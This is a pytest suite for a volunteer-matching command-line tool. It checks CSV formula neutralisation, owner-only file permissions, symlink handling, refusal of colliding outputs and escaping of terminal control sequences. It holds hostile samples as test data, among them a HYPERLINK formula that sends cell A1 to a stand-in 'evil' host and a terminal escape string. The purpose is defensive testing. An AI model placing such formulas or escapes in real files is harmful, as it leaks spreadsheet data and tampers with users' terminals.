"""What the tool writes is safe to open: no formulas, owner-only files, no clobbered outputs,
no terminal escapes. Each probe runs end to end through the CLI."""

from __future__ import annotations

import csv
import io
import stat
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from hypothesis import given
from hypothesis import strategies as st

from matcher.cli import main
from matcher.io import format_csv, neutralise_cell, read_clients, unquote_cell, write_atomic
from matcher.io.cells import FORMULA_STARTS
from matcher.terminal import visible, visible_lines

ROOT = Path(__file__).resolve().parent.parent
CLIENTS = str(ROOT / "examples" / "clients.csv")
VOLUNTEERS = str(ROOT / "examples" / "volunteers.csv")
DATE = ["--date", "2026-11-23"]

HYPERLINK = '=HYPERLINK("http://evil/?"&A1;"click")'
ESCAPES = "\x1b]0;PWNED\x07\x1b[2J"

CLIENT_HEADER = ["client_id", "programme", "lat", "lon", "district", "availability", "contact"]
VOLUNTEER_HEADER = ["volunteer_id", "programmes", "lat", "lon", "availability", "capacity"]


def invoke(*args: str, db: Path | None = None) -> Result:
    env = {"MATCHER_DB": str(db)} if db else None
    return CliRunner(env=env).invoke(main, ["-q", *args], prog_name="matcher")


def write_rows(path: Path, header: list[str], rows: list[list[str]]) -> str:
    # Written raw, as a hostile spreadsheet would hold the cells: no neutralising.
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows([header, *rows])
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return str(path)


def hostile_round(folder: Path, *, client_id: str = HYPERLINK) -> tuple[str, str]:
    clients = write_rows(
        folder / "clients.csv",
        CLIENT_HEADER,
        [
            [client_id, "p", "52.5", "6.1", "+SUM(1)", "mon-am", "visit"],
            ["@cmd", "nobody-serves-this", "52.5", "6.1", "-cmd", "mon-am", "visit"],
        ],
    )
    volunteers = write_rows(
        folder / "volunteers.csv",
        VOLUNTEER_HEADER,
        [["-3.5", "p", "52.5", "6.1", "mon-am", "1"]],
    )
    return clients, volunteers


def csv_cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


# 6. Formulas -----------------------------------------------------------------------------


@given(st.text())
def test_every_text_reads_back_as_written(text: str) -> None:
    cell = neutralise_cell(text)
    assert unquote_cell(cell) == text
    # What a spreadsheet sees first is never a formula character, unless it is a number.
    if cell[:1] in FORMULA_STARTS:
        assert cell == text
        float(text)  # a number, which a spreadsheet does not run


@given(st.text(alphabet="'=+-@\t\r1.e x", max_size=8))
def test_quotes_and_formula_characters_read_back(text: str) -> None:
    # The dense corner of the rule: quotes, formula characters and numbers mixed.
    assert unquote_cell(neutralise_cell(text)) == text


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+SUM(1)", "'+SUM(1)"),
        ("-cmd", "'-cmd"),
        ("@cmd", "'@cmd"),
        ("\tcmd", "'\tcmd"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("-3.5", "-3.5"),
        ("+31", "+31"),
        ("-1e-05", "-1e-05"),
        ("'-3.5", "'-3.5"),
        ("-", "'-"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_neutralised_cells(text: str, cell: str) -> None:
    assert neutralise_cell(text) == cell
    assert unquote_cell(cell) == text


def test_match_files_hold_no_formula_and_read_back(tmp_path: Path) -> None:
    clients, volunteers = hostile_round(tmp_path)
    out = tmp_path / "out"
    result = invoke("match", clients, volunteers, "--out", str(out), *DATE)
    assert result.exit_code == 0, result.output
    matches = csv_cells(out / "matches.csv")
    unmatched = csv_cells(out / "unmatched.csv")
    assert matches[1][:2] == ["'" + HYPERLINK, "-3.5"]
    assert unmatched[1][0] == "'@cmd"
    for row in matches[1:] + unmatched[1:]:
        for cell in row:
            assert cell[:1] not in FORMULA_STARTS or neutralise_cell(cell) == cell
    assert [unquote_cell(cell) for cell in matches[1][:2]] == [HYPERLINK, "-3.5"]
    assert unquote_cell(unmatched[1][0]) == "@cmd"


def test_candidates_file_holds_no_formula(tmp_path: Path) -> None:
    clients, volunteers = hostile_round(tmp_path)
    out = tmp_path / "pairs.csv"
    result = invoke("candidates", clients, volunteers, "--out", str(out), *DATE)
    assert result.exit_code == 0, result.output
    assert csv_cells(out)[1][:2] == ["'" + HYPERLINK, "-3.5"]


def test_ledger_export_neutralises_and_reads_back(tmp_path: Path) -> None:
    clients, volunteers = hostile_round(tmp_path)
    db = tmp_path / "matcher.db"
    for args in (
        ("db", "init"),
        ("import", "volunteers", volunteers),
        ("import", "clients", clients, *DATE),
        ("round", "propose", *DATE),
        ("round", "decline", "1", "--client", HYPERLINK, "--by", "client", "--reason", "+SUM(1)"),
        ("export", "--out", str(tmp_path / "export")),
    ):
        result = invoke(*args, db=db)
        assert result.exit_code == 0, (args, result.output)
    exported = tmp_path / "export"
    declines = (exported / "declines.csv").read_text(encoding="utf-8")
    assert "'" + HYPERLINK.replace('"', '""') in declines
    assert ",'+SUM(1)" in declines
    assert "\n" + HYPERLINK[0] not in declines and ",=" not in declines
    # The exported clients read back, through the neutralising, as the clients imported
    # (who now wait since the import date).
    back = [c.model_dump(exclude={"waiting_since"}) for c in read_clients(exported / "clients.csv")]
    assert back == [c.model_dump(exclude={"waiting_since"}) for c in read_clients(clients)]
    assert back[0]["client_id"] == HYPERLINK and back[0]["district"] == "+SUM(1)"


def test_format_csv_neutralises_header_and_cells() -> None:
    text = format_csv(["=h", "n"], [["@x", -2.5], [("-a", "b"), None]])
    assert text == "'=h,n\n'@x,-2.5\n'-a|b,\n"


# 10. Permissions -------------------------------------------------------------------------


def test_export_over_a_symlink_writes_an_owner_only_file(tmp_path: Path) -> None:
    target = tmp_path / "shared.csv"
    target.write_text("old\n")
    target.chmod(0o644)
    out = tmp_path / "out"
    out.mkdir()
    (out / "matches.csv").symlink_to(target)
    (out / "unmatched.csv").write_text("old\n")
    (out / "unmatched.csv").chmod(0o666)
    result = invoke("match", CLIENTS, VOLUNTEERS, "--out", str(out), *DATE)
    assert result.exit_code == 0, result.output
    for name in ("matches.csv", "unmatched.csv", "summary.json"):
        written = out / name
        assert not written.is_symlink()
        assert stat.S_IMODE(written.stat().st_mode) == 0o600, name
    assert (out / "matches.csv").read_text().startswith("client_id,")
    # The link is replaced, never written through: the file it pointed to is untouched.
    assert target.read_text() == "old\n"
    assert stat.S_IMODE(target.stat().st_mode) == 0o644


def test_ledger_export_over_a_symlink_is_owner_only(tmp_path: Path) -> None:
    db = tmp_path / "matcher.db"
    assert invoke("db", "init", db=db).exit_code == 0
    target = tmp_path / "elsewhere.csv"
    target.write_text("old\n")
    target.chmod(0o644)
    out = tmp_path / "export"
    out.mkdir()
    (out / "events.csv").symlink_to(target)
    result = invoke("export", "--out", str(out), db=db)
    assert result.exit_code == 0, result.output
    assert "events.csv" in result.stdout
    assert not (out / "events.csv").is_symlink()
    modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in out.iterdir()}
    assert set(modes.values()) == {0o600}, modes
    assert target.read_text() == "old\n"


def test_write_atomic_refuses_two_names_for_one_file(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    (tmp_path / "sub").mkdir()
    with pytest.raises(ValueError, match="are the same file"):
        write_atomic({path: "1\n", tmp_path / "sub" / ".." / "a.csv": "2\n"})
    assert not path.exists()


# 17. Outputs that collide ----------------------------------------------------------------


def test_report_over_a_match_output_is_refused_and_nothing_written(tmp_path: Path) -> None:
    out = tmp_path / "out"
    report = str(out / "matches.csv")
    result = invoke("match", CLIENTS, VOLUNTEERS, "--out", str(out), "--report", report, *DATE)
    assert result.exit_code == 2
    assert (
        f"Error: --report {report!r} is the same file as matches.csv in --out {report!r}"
        " (another output); give each output a path of its own"
    ) in result.stderr
    assert not out.exists()


def test_report_through_a_link_to_an_output_is_refused(tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "summary.json").write_text("{}\n")
    alias = tmp_path / "report.html"
    alias.symlink_to(out / "summary.json")
    result = invoke("match", CLIENTS, VOLUNTEERS, "--out", str(out), "--report", str(alias), *DATE)
    assert result.exit_code == 2
    assert "is the same file as summary.json in --out" in result.stderr
    assert sorted(p.name for p in out.iterdir()) == ["summary.json"]


def test_an_output_over_an_input_is_refused(tmp_path: Path) -> None:
    clients, volunteers = hostile_round(tmp_path)
    before = Path(clients).read_bytes()
    result = invoke("candidates", clients, volunteers, "--out", clients, *DATE)
    assert result.exit_code == 2
    assert f"--out {clients!r} is the same file as CLIENTS {clients!r} (an input)" in result.stderr
    assert Path(clients).read_bytes() == before


def test_round_report_over_the_ledger_is_refused(tmp_path: Path) -> None:
    db = tmp_path / "matcher.db"
    assert invoke("db", "init", db=db).exit_code == 0
    before = db.read_bytes()
    result = invoke("round", "propose", "--report", str(db), *DATE, db=db)
    assert result.exit_code == 2
    assert f"--report {str(db)!r} is the same file as --db" in result.stderr
    assert db.read_bytes() == before


# 19. Terminal escapes --------------------------------------------------------------------


def test_visible_escapes_every_control_character() -> None:
    assert visible(ESCAPES) == "\\x1b]0;PWNED\\x07\\x1b[2J"
    assert visible("a\tb\nc\rd\x00\x7f\x9b\u202e\u2028") == (
        "a\\tb\\nc\\rd\\x00\\x7f\\x9b\\u202e\\u2028"
    )
    assert visible("Assendorp–Centrum café 🙂") == "Assendorp–Centrum café 🙂"
    assert visible_lines(f"one {ESCAPES}\ntwo") == "one \\x1b]0;PWNED\\x07\\x1b[2J\ntwo"


@given(st.text())
def test_visible_text_holds_no_control_character(text: str) -> None:
    shown = visible(text)
    assert all(ord(char) >= 0x20 and not 0x7F <= ord(char) < 0xA0 for char in shown)
    assert visible(shown) == shown


def _no_escape_bytes(text: str) -> None:
    assert "\x1b" not in text and "\x07" not in text


def test_match_table_and_explain_show_escapes(tmp_path: Path) -> None:
    clients, volunteers = hostile_round(tmp_path, client_id="K" + ESCAPES)
    result = invoke("match", clients, volunteers, "--out", str(tmp_path / "out"), *DATE)
    assert result.exit_code == 0, result.output
    assert "K\\x1b]0;PWNED\\x07\\x1b[2J  -3.5" in result.stdout
    _no_escape_bytes(result.stdout)
    explained = invoke(
        "explain", clients, volunteers, "--client", "K" + ESCAPES, *DATE, "--lang", "en"
    )
    assert explained.exit_code == 0, explained.output
    assert "client K\\x1b]0;PWNED\\x07\\x1b[2J: risk" in explained.stdout
    _no_escape_bytes(explained.stdout)


def test_ledger_views_show_escapes(tmp_path: Path) -> None:
    clients, volunteers = hostile_round(tmp_path, client_id="K" + ESCAPES)
    db = tmp_path / "matcher.db"
    for args in (
        ("db", "init"),
        ("import", "volunteers", volunteers),
        ("import", "clients", clients, *DATE),
    ):
        assert invoke(*args, db=db).exit_code == 0
    shown = []
    for args in (
        ("round", "propose", *DATE),
        ("round", "decline", "1", "--client", "K" + ESCAPES, "--by", "client",
         "--reason", "no\n" + ESCAPES),
        ("round", "show", "1"),
        ("status", *DATE),
        ("history",),
    ):  # fmt: skip
        result = invoke(*args, db=db)
        assert result.exit_code == 0, (args, result.output)
        _no_escape_bytes(result.output)
        shown.append(result.stdout)
    propose, decline, show, status, history = shown
    assert "K\\x1b]0;PWNED\\x07\\x1b[2J  -3.5" in propose
    assert decline.startswith("Declined K\\x1b]0;PWNED\\x07\\x1b[2J – -3.5 (by client)")
    assert "K\\x1b]0;PWNED\\x07\\x1b[2J" in show and "K\\x1b]0;PWNED" in status
    # The line break in the reason is shown, not obeyed: the event stays on one line.
    assert "no\\n\\x1b]0;PWNED\\x07\\x1b[2J" in history


def test_error_messages_and_notes_show_escapes(tmp_path: Path) -> None:
    clients = write_rows(
        tmp_path / "clients.csv",
        ["client_id", "programme", "age", "x" + ESCAPES],
        [["K" + ESCAPES, "p", "old" + ESCAPES, ""]],
    )
    volunteers = write_rows(tmp_path / "volunteers.csv", VOLUNTEER_HEADER, [])
    result = CliRunner().invoke(main, ["match", clients, volunteers, *DATE])
    assert result.exit_code == 1
    _no_escape_bytes(result.stderr)
    assert "(got 'old\\x1b]0;PWNED\\x07\\x1b[2J')" in result.stderr
    assert "ignored columns: x\\x1b]0;pwned\\x07" in result.stderr  # header, lowercased
    unknown = invoke("explain", CLIENTS, VOLUNTEERS, "--client", ESCAPES, *DATE)
    assert unknown.exit_code == 1
    _no_escape_bytes(unknown.stderr)
